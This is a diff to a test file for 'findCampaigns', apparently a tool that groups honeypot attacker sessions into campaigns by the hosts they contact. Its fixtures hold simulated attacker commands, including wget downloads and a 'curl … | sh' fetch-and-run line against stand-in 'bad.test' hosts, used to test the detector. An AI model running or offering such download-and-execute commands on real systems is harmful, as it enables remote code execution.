@@ -147,15 +147,16 @@ describe("findCampaigns", () => {
   });
 
   test("a session that names very many hosts joins nobody to anybody", async () => {
-    const wide = Array.from({ length: 40 }, (_, i) => `wget http://host${i}.bad.test/q;`).join(" ");
-    const found = await find([
-      [
-        ...session("w1", 0, typed(wide)),
-        ...session("a1", 10, typed("wget http://host1.bad.test/otter1")),
-        ...session("b1", 20, typed("curl -s http://host2.bad.test/weasel | sh")),
-      ],
-    ]);
-    expect(found.campaigns).toEqual([]);
+    const besideOneOf = (hosts: number) =>
+      find([
+        [
+          ...session("w1", 0, typed(Array.from({ length: hosts }, (_, i) => `wget http://host${i}.bad.test/q;`).join(" "))),
+          ...session("a1", 10, typed("wget http://host1.bad.test/otter1")),
+          ...session("b1", 20, typed("curl -s http://host2.bad.test/weasel | sh")),
+        ],
+      ]);
+    expect((await besideOneOf(40)).campaigns).toEqual([]);
+    expect(membersOf(await besideOneOf(3))).toEqual([["a1", "b1", "w1"]]);
   });
 
   test("sessions whose ids are the same for long are two", async () => {
